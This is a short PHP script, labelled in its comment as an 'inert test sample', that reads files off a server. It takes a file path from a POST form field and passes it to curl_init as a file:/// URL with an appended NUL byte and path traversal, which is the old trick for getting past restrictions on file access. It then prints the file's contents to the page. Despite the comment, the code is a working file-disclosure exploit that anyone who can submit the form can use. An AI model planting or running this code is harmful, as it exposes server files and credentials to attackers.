<?php
// inert test sample: prints a server file through curl_init's file: handler, the old NUL trick
$want = isset($_POST['want']) ? $_POST['want'] : '';
if ($want !== '') {
    $h = curl_init("file:///" . $want . "\x00/../../../../" . __FILE__);
    curl_setopt($h, CURLOPT_RETURNTRANSFER, true);
    echo '<pre>' . htmlspecialchars((string) curl_exec($h)) . '</pre>';
    curl_close($h);
}
echo '<form method="post"><input name="want"><input type="submit" value="show"></form>';
